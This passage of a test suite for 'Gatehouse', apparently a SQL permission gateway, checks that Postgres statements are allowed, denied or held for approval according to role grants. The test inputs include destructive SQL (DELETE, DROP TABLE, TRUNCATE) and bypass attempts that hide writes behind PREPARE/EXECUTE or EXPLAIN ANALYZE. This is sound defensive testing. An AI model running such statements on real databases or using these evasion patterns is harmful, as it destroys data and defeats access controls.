      const verdict = decide('readonly', entry.example);
      assert.equal(verdict.kind === 'deny' && verdict.rule, `sql.function.${entry.risk}`, JSON.stringify(verdict));
    });
  }
});

describe('bypass attempts are refused', () => {
  for (const [grant, sql, rule, why] of bypasses) {
    test(`${why}: ${JSON.stringify(sql)} (${grant})`, () => {
      const verdict = decide(grant, sql);
      assert.equal(verdict.kind, 'deny', `allowed: ${JSON.stringify(verdict)}`);
      assert.equal(verdict.kind === 'deny' && verdict.rule, rule, JSON.stringify(verdict));
    });
  }

  test('EXECUTE is judged by the statement prepared under that name', () => {
    const prepared = new Map([['wipe', analyzeSql('PREPARE wipe AS DELETE FROM documents').statements[0].inner!]]);
    const verdict = decide('readonly', 'EXECUTE wipe', prepared);
    assert.equal(verdict.kind === 'deny' && verdict.rule, 'sql.relation.write');
    assert.equal(decide('readonly', 'EXPLAIN ANALYZE EXECUTE wipe', prepared).kind, 'deny');
  });

  test('a statement prepared earlier in the same query is what a later EXECUTE runs', () => {
    const verdict = decide('readonly', 'PREPARE p AS DELETE FROM documents; EXECUTE p');
    assert.equal(verdict.kind === 'deny' && verdict.rule, 'sql.relation.write');
  });

  test('no grant for the connection: everything is refused', () => {
    const verdict = decideSql(analyzeSql('SELECT 1').statements[0], { role: 'r', connection: 'crm', grant: undefined, catalog, prepared: new Map() });
    assert.equal(verdict.kind === 'deny' && verdict.rule, 'sql.grant.none');
  });

  test('deny messages name what is missing', () => {
    const message = (grant: GrantName, sql: string) => {
      const verdict = decide(grant, sql);
      return verdict.kind === 'deny' ? verdict.message : '';
    };
    assert.equal(message('readonly', 'DELETE FROM documents'),
      'Gatehouse: role "readonly" may not delete from public.documents on connection "crm" (no write/delete grant for documents)');
    assert.equal(message('readonly', "SELECT set_config('a', 'b', false)"),
      'Gatehouse: role "readonly" may not call volatile function pg_catalog.set_config on connection "crm" (it may have side effects; add it to crm.functions to allow)');
    assert.equal(message('readonly', 'CREATE TABLE t (a int)'),
      'Gatehouse: statement kind "ddl" (CREATE TABLE) is not granted to role "readonly" on connection "crm"; add "ddl" to crm.statements to allow');
    assert.equal(message('writer', "SELECT id FROM customers WHERE ssn LIKE '1%'"),
      'Gatehouse: column public.customers.ssn is masked for role "writer"; it may only be selected directly, not used in expressions, filters or sorts');
    assert.match(message('readonly', 'SELECT * FROM other."Docs"'), /may not read other\."Docs" on connection "crm" \(no read grant for other\."Docs"\)/);
  });
});

/** The texts psql 15 sends for `\d documents` (captured with `psql -E`). */
const psqlDescribe = [
  `SELECT c.oid,
  n.nspname,
  c.relname
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
WHERE c.relname OPERATOR(pg_catalog.~) '^(documents)$' COLLATE pg_catalog.default
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 2, 3;`,
  `SELECT c.relchecks, c.relkind, c.relhasindex, c.relhasrules, c.relhastriggers, c.relrowsecurity, c.relforcerowsecurity, false AS relhasoids, c.relispartition, '', c.reltablespace, CASE WHEN c.reloftype = 0 THEN '' ELSE c.reloftype::pg_catalog.regtype::pg_catalog.text END, c.relpersistence, c.relreplident, am.amname
FROM pg_catalog.pg_class c
 LEFT JOIN pg_catalog.pg_class tc ON (c.reltoastrelid = tc.oid)
LEFT JOIN pg_catalog.pg_am am ON (c.relam = am.oid)
WHERE c.oid = '16389';`,
  `SELECT a.attname,
  pg_catalog.format_type(a.atttypid, a.atttypmod),
  (SELECT pg_catalog.pg_get_expr(d.adbin, d.adrelid, true)
   FROM pg_catalog.pg_attrdef d
   WHERE d.adrelid = a.attrelid AND d.adnum = a.attnum AND a.atthasdef),
  a.attnotnull,
  (SELECT c.collname FROM pg_catalog.pg_collation c, pg_catalog.pg_type t
   WHERE c.oid = a.attcollation AND t.oid = a.atttypid AND a.attcollation <> t.typcollation) AS attcollation,
  a.attidentity,
  a.attgenerated
FROM pg_catalog.pg_attribute a
WHERE a.attrelid = '16389' AND a.attnum > 0 AND NOT a.attisdropped
ORDER BY a.attnum;`,
  `SELECT c2.relname, i.indisprimary, i.indisunique, i.indisclustered, i.indisvalid, pg_catalog.pg_get_indexdef(i.indexrelid, 0, true),
  pg_catalog.pg_get_constraintdef(con.oid, true), contype, condeferrable, condeferred, i.indisreplident, c2.reltablespace
FROM pg_catalog.pg_class c, pg_catalog.pg_class c2, pg_catalog.pg_index i
  LEFT JOIN pg_catalog.pg_constraint con ON (conrelid = i.indrelid AND conindid = i.indexrelid AND contype IN ('p','u','x'))
WHERE c.oid = '16389' AND c.oid = i.indrelid AND i.indexrelid = c2.oid
ORDER BY i.indisprimary DESC, c2.relname;`,
  `SELECT pol.polname, pol.polpermissive,
  CASE WHEN pol.polroles = '{0}' THEN NULL ELSE pg_catalog.array_to_string(array(select rolname from pg_catalog.pg_roles where oid = any (pol.polroles) order by 1),',') END,
  pg_catalog.pg_get_expr(pol.polqual, pol.polrelid),
  pg_catalog.pg_get_expr(pol.polwithcheck, pol.polrelid),
  CASE pol.polcmd
    WHEN 'r' THEN 'SELECT'
    WHEN 'a' THEN 'INSERT'
    WHEN 'w' THEN 'UPDATE'
    WHEN 'd' THEN 'DELETE'
    END AS cmd
FROM pg_catalog.pg_policy pol
WHERE pol.polrelid = '16389' ORDER BY 1;`,
  `SELECT oid, stxrelid::pg_catalog.regclass, stxnamespace::pg_catalog.regnamespace::pg_catalog.text AS nsp, stxname,
pg_catalog.pg_get_statisticsobjdef_columns(oid) AS columns,
  'd' = any(stxkind) AS ndist_enabled,
  'f' = any(stxkind) AS deps_enabled,
  'm' = any(stxkind) AS mcv_enabled,
stxstattarget
FROM pg_catalog.pg_statistic_ext
WHERE stxrelid = '16389'
ORDER BY nsp, stxname;`,
  `SELECT pubname
     , NULL
     , NULL
FROM pg_catalog.pg_publication p
     JOIN pg_catalog.pg_publication_namespace pn ON p.oid = pn.pnpubid
     JOIN pg_catalog.pg_class pc ON pc.relnamespace = pn.pnnspid
WHERE pc.oid ='16389' and pg_catalog.pg_relation_is_publishable('16389')
UNION
SELECT pubname
     , pg_get_expr(pr.prqual, c.oid)
     , (CASE WHEN pr.prattrs IS NOT NULL THEN
         (SELECT string_agg(attname, ', ')
           FROM pg_catalog.generate_series(0, pg_catalog.array_upper(pr.prattrs::pg_catalog.int2[], 1)) s,
                pg_catalog.pg_attribute
          WHERE attrelid = pr.prrelid AND attnum = prattrs[s])
        ELSE NULL END) FROM pg_catalog.pg_publication p
     JOIN pg_catalog.pg_publication_rel pr ON p.oid = pr.prpubid
     JOIN pg_catalog.pg_class c ON c.oid = pr.prrelid
WHERE pr.prrelid = '16389'
UNION
SELECT pubname
     , NULL
     , NULL
FROM pg_catalog.pg_publication p
WHERE p.puballtables AND pg_catalog.pg_relation_is_publishable('16389')
ORDER BY 1;`,
  `SELECT c.oid::pg_catalog.regclass
FROM pg_catalog.pg_class c, pg_catalog.pg_inherits i
WHERE c.oid = i.inhparent AND i.inhrelid = '16389'
  AND c.relkind != 'p' AND c.relkind != 'I'
ORDER BY inhseqno;`,
  `SELECT c.oid::pg_catalog.regclass, c.relkind, inhdetachpending, pg_catalog.pg_get_expr(c.relpartbound, c.oid)
FROM pg_catalog.pg_class c, pg_catalog.pg_inherits i
WHERE c.oid = i.inhrelid AND i.inhparent = '16389'
ORDER BY pg_catalog.pg_get_expr(c.relpartbound, c.oid) = 'DEFAULT', c.oid::pg_catalog.regclass::pg_catalog.text;`,
];

/** What psql 15 sends for `\dt`. */
const psqlListTables = `SELECT n.nspname as "Schema",
  c.relname as "Name",
  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN 'foreign table' WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as "Type",
  pg_catalog.pg_get_userbyid(c.relowner) as "Owner"
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
     LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam
WHERE c.relkind IN ('r','p','')
      AND n.nspname <> 'pg_catalog'
      AND n.nspname !~ '^pg_toast'
      AND n.nspname <> 'information_schema'
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 1,2;`;

/** What TypeORM's PostgresQueryRunner sends when it loads a table (logged from a real run, table name changed). */
const typeormIntrospection = [
  'SELECT * FROM current_schema()',
  'SELECT version();',
  "SELECT TRUE FROM information_schema.columns WHERE table_name = 'pg_class' and column_name = 'relispartition'",
  `SELECT * FROM "information_schema"."tables" WHERE ("table_schema" = 'public' AND "table_name" = 'documents')`,
  `SELECT columns.*,
      pg_catalog.col_description(('"' || table_catalog || '"."' || table_schema || '"."' || table_name || '"')::regclass::oid, ordinal_position) AS description,
      ('"' || "udt_schema" || '"."' || "udt_name" || '"')::"regtype" AS "regtype",
      pg_catalog.format_type("col_attr"."atttypid", "col_attr"."atttypmod") AS "format_type"
      FROM "information_schema"."columns"
      LEFT JOIN "pg_catalog"."pg_attribute" AS "col_attr"
      ON "col_attr"."attname" = "columns"."column_name"
      AND "col_attr"."attrelid" = (
        SELECT "cls"."oid" FROM "pg_catalog"."pg_class" AS "cls"
        LEFT JOIN "pg_catalog"."pg_namespace" AS "ns" ON "ns"."oid" = "cls"."relnamespace"
        WHERE "cls"."relname" = "columns"."table_name" AND "ns"."nspname" = "columns"."table_schema")
      WHERE ("table_schema" = 'public' AND "table_name" = 'documents')`,
  `SELECT "ns"."nspname" AS "table_schema", "t"."relname" AS "table_name", "cnst"."conname" AS "constraint_name",
      pg_get_constraintdef("cnst"."oid") AS "expression",
      CASE "cnst"."contype" WHEN 'p' THEN 'PRIMARY' WHEN 'u' THEN 'UNIQUE' WHEN 'c' THEN 'CHECK' WHEN 'x' THEN 'EXCLUDE' END AS "constraint_type",
      "a"."attname" AS "column_name"
      FROM "pg_constraint" "cnst" INNER JOIN "pg_class" "t" ON "t"."oid" = "cnst"."conrelid"
      INNER JOIN "pg_namespace" "ns" ON "ns"."oid" = "cnst"."connamespace"
      LEFT JOIN "pg_attribute" "a" ON "a"."attrelid" = "cnst"."conrelid" AND "a"."attnum" = ANY ("cnst"."conkey")
      WHERE "t"."relkind" IN ('r', 'p') AND (("ns"."nspname" = 'public' AND "t"."relname" = 'documents'))`,
];

/** [grant, statement]: legitimate work that must be allowed. */
const legitimate: [GrantName, string][] = [
  ['readonly', 'SELECT * FROM documents'],
  ['readonly', 'SELECT d.title, c.body FROM documents d JOIN chunks c ON c.document_id = d.id WHERE d.id = $1'],
  ['readonly', "WITH recent AS (SELECT * FROM documents WHERE created_at > now() - interval '7 days') SELECT count(*) FROM recent"],
  ['readonly', 'SELECT id, row_number() OVER (PARTITION BY document_id ORDER BY id) FROM chunks'],
  ['readonly', 'SELECT document_id, count(*), max(length(body)) FROM chunks GROUP BY document_id HAVING count(*) > 1 ORDER BY 2 DESC'],
  ['readonly', "SELECT lower(title), coalesce(summary, ''), greatest(1, 2), nullif(title, '') FROM documents"],
  ['readonly', `SELECT metadata->>'author' AS author, metadata @> '{"lang":"en"}' FROM documents WHERE metadata ? 'author'`],
  ['readonly', 'SELECT * FROM documents WHERE id = ANY($1::int[]) ORDER BY random() LIMIT 5'],
  ['readonly', "SELECT EXTRACT(year FROM created_at), date_trunc('day', created_at), to_char(now(), 'YYYY') FROM documents"],
  ['readonly', 'SELECT d.* FROM documents d WHERE EXISTS (SELECT * FROM chunks c WHERE c.document_id = d.id)'],
  ['readonly', 'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT n, current_date, current_user FROM r'],
  ['readonly', "VALUES (1, 'a'), (2, 'b')"],
  ['readonly', 'SELECT * FROM "documents"; SELECT * FROM public.documents; select * from DOCUMENTS;'],
  ['readonly', 'EXPLAIN SELECT * FROM documents WHERE id = 1'],
  ['readonly', 'PREPARE q(int) AS SELECT * FROM chunks WHERE document_id = $1; EXECUTE q(1); DEALLOCATE q'],
  ['readonly', 'COPY (SELECT id, title FROM documents) TO STDOUT WITH (FORMAT csv)'],
  ['readonly', 'BEGIN; SELECT 1; COMMIT'],
  ['readonly', 'BEGIN READ ONLY'],
  ['readonly', 'START TRANSACTION ISOLATION LEVEL REPEATABLE READ'],
  ['readonly', 'SAVEPOINT a; RELEASE SAVEPOINT a; ROLLBACK TO SAVEPOINT a; ROLLBACK'],
  ['readonly', "SET application_name = 'rag'; SET statement_timeout = '5s'; SET TIME ZONE 'UTC'; SET NAMES 'UTF8'"],
  ['readonly', 'SET LOCAL lock_timeout = 1000; SET extra_float_digits = 3; SET transaction_read_only = on'],
  ['readonly', 'RESET ALL; RESET statement_timeout'],
  ['readonly', 'SHOW search_path; SHOW server_version; SHOW TimeZone; SHOW statement_timeout'],
  ['readonly', 'DISCARD PLANS; DEALLOCATE ALL; CLOSE ALL; FETCH 10 FROM c; UNLISTEN *'],
  ['readonly', "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'"],
  ['readonly', "SELECT relname FROM pg_class WHERE relkind = 'r'"],
  ['readonly', "SELECT current_setting('TimeZone'), current_setting('server_version_num')::int, current_setting('search_path', true)"],
  ['readonly', 'SELECT gen_random_uuid(), clock_timestamp()'],
  ['cursors', 'DECLARE c CURSOR FOR SELECT * FROM documents'],
  // Introspection of granted objects keeps working: psql's \d+ of a view, sizes of granted tables, structure of all.
  ['viewer', "SELECT pg_get_viewdef('open_tickets'::regclass, true)"],
  ['viewer', "SELECT pg_catalog.pg_get_viewdef('5004'::pg_catalog.oid, true)"],
  ['viewer', "SELECT r.rulename, trim(trailing ';' from pg_catalog.pg_get_ruledef(r.oid, true)) FROM pg_catalog.pg_rewrite r WHERE r.ev_class = '5004' AND r.rulename != '_RETURN' ORDER BY 1"],
  ['viewer', "SELECT pg_relation_size('documents'), pg_total_relation_size('public.documents'::regclass), pg_table_size(c.oid) FROM pg_class c WHERE c.oid = 5002"],
  ['viewer', "SELECT pg_get_functiondef('search_docs'::regproc), pg_get_functiondef(6002)"],
  ['readonly', "SELECT pg_get_viewdef('pg_catalog.pg_tables'::regclass)"],
  ['readonly', 'SELECT pg_get_indexdef(i.indexrelid, 0, true) FROM pg_index i'],
  ['readonly', 'SELECT proname, proargtypes, provolatile FROM pg_proc'],
  ['readonly', "SELECT relname, relkind FROM pg_class WHERE relnamespace = 'public'::regnamespace"],
  ['readonly', 'SELECT rolname FROM pg_roles'],
  ['readonly', 'SELECT schemaname, viewname FROM pg_views'],
  ['timed', "SET statement_timeout = '5s'; SET LOCAL statement_timeout = 1000; SET statement_timeout TO DEFAULT; RESET statement_timeout"],
  // What pg-cursor and psycopg's named cursors send: allowed when the query is, with no cursor grant.
  ['readonly', 'DECLARE c CURSOR FOR SELECT * FROM documents'],
  ['readonly', 'DECLARE "c1" NO SCROLL CURSOR WITH HOLD FOR SELECT id, title FROM documents WHERE id > $1'],
  ['readonly', 'BEGIN; DECLARE c SCROLL CURSOR FOR SELECT * FROM chunks; FETCH FORWARD 10 FROM c; MOVE BACKWARD 5 IN c; FETCH ALL FROM c; CLOSE c; COMMIT'],
  ['writer', 'DECLARE c CURSOR FOR SELECT id, email, ssn FROM customers'],
  ...psqlDescribe.map((sql): [GrantName, string] => ['readonly', sql]),
  ['readonly', psqlListTables],
  ...typeormIntrospection.map((sql): [GrantName, string] => ['readonly', sql]),
  ['writer', 'SELECT c.id, c.ssn, c.email AS contact FROM customers c WHERE c.id = $1'],
  ['writer', 'SELECT t.*, c.email FROM tickets t JOIN customers c ON c.id = t.customer_id ORDER BY t.id'],
  ['writer', 'SELECT customers.* FROM customers'],
  ['writer', 'SELECT s FROM customers AS c(i, n, e, s)'],
  ['writer', 'SELECT count(*) FROM customers'],
  ['writer', 'SELECT email FROM customers WHERE id IN (SELECT customer_id FROM tickets)'],
  ['writer', "SELECT * FROM tickets WHERE customer_id IN (SELECT id FROM customers WHERE name = 'x')"],
  ['writer', 'INSERT INTO tickets (customer_id, title) VALUES ($1, $2) RETURNING id'],
  ['writer', "UPDATE tickets SET status = 'closed', updated_at = now() WHERE id = $1"],
  ['writer', 'DELETE FROM tickets WHERE id = 1'],
  ['writer', "INSERT INTO tickets (id, title) VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET title = EXCLUDED.title"],
  ['writer', 'MERGE INTO tickets t USING (VALUES (1, $1)) v(id, title) ON t.id = v.id WHEN MATCHED THEN UPDATE SET title = v.title WHEN NOT MATCHED THEN INSERT (id, title) VALUES (v.id, v.title)'],
  ['writer', "WITH d AS (DELETE FROM tickets WHERE status = 'spam' RETURNING id) SELECT count(*) FROM d"],
  ['writer', 'SELECT * FROM tickets FOR UPDATE SKIP LOCKED LIMIT 1'],
  ['writer', 'BEGIN READ WRITE'],
  ['insertOnly', "INSERT INTO tickets (title) VALUES ('x')"],
];

describe('legitimate statements pass', () => {
  for (const [grant, sql] of legitimate) {
    test(`${sql.replace(/\s+/g, ' ').slice(0, 110)} (${grant})`, () => {
      const verdict = decide(grant, sql);
      assert.equal(verdict.kind, 'allow', JSON.stringify(verdict));
    });
  }

  test('SELECT * over a table with masks is allowed, with the masks and the row cap as obligations', () => {
    const masked = decide('writer', 'SELECT * FROM customers');
    assert.deepEqual(masked, {
      kind: 'allow', grant: 'roles.writer.crm',
      obligations: { mask: { 'public.customers.ssn': 'redact', 'public.customers.email': 'partial' } },
    });
    assert.deepEqual(decide('readonly', 'SELECT * FROM documents'), { kind: 'allow', grant: 'roles.readonly.crm', obligations: { maxRows: 500 } });
  });

  test('a grant can name what is refused by default', () => {
    const generous = sqlGrant.parse({
      read: ['documents', 'pg_catalog.pg_stats', 'other."Docs"'], functions: ['nextval', 'public.search_docs', 'query_to_xml'],
      statements: ['ddl', 'set_search_path', 'cursor', 'settings'],
    });
    const judge = (sql: string) => decideSqlAll(analyzeSql(sql), { role: 'admin', connection: 'crm', grant: generous, catalog, prepared: new Map() }).kind;
    for (const sql of [
      'SHOW ALL', "SELECT current_setting('data_directory')",
      'SELECT * FROM pg_stats', "SELECT nextval('s')", "SELECT search_docs('x')", 'SELECT * FROM other."Docs"',
      'CREATE TABLE t (id int)', 'SET search_path = public', "SELECT query_to_xml('select 1', true, false, '')",
    ]) assert.equal(judge(sql), 'allow', sql);
    assert.equal(judge('SELECT * FROM other.docs'), 'deny', 'a quoted grant name matches only that exact identifier');
  });

  test('approve holds the statements that do what it lists', () => {
    const grant = sqlGrant.parse({ read: ['tickets'], write: ['tickets'], approve: ['delete', 'ddl'], statements: ['ddl'] });
    const judge = (sql: string) => decideSqlAll(analyzeSql(sql), { role: 'support-writer', connection: 'crm', grant, catalog, prepared: new Map() });
    const held = judge('DELETE FROM tickets WHERE id = 1');
    assert.equal(held.kind, 'hold');
    assert.equal(held.kind === 'hold' && held.reason,
      'Gatehouse: role "support-writer" wants to delete from public.tickets on connection "crm"; held for approval (crm.approve: delete)');
    assert.equal(judge('EXPLAIN ANALYZE DELETE FROM tickets').kind, 'hold');
    assert.equal(judge('SELECT 1; WITH d AS (DELETE FROM tickets RETURNING 1) SELECT * FROM d').kind, 'hold');
    assert.equal(judge('CREATE INDEX ON tickets (id)').kind, 'hold');
    assert.equal(judge("UPDATE tickets SET title = 'x' WHERE id = 1").kind, 'allow');
    assert.equal(judge('SELECT 1; DELETE FROM tickets; DROP TABLE secrets; TRUNCATE tickets').kind, 'deny', 'a refusal outranks a hold');
  });
});
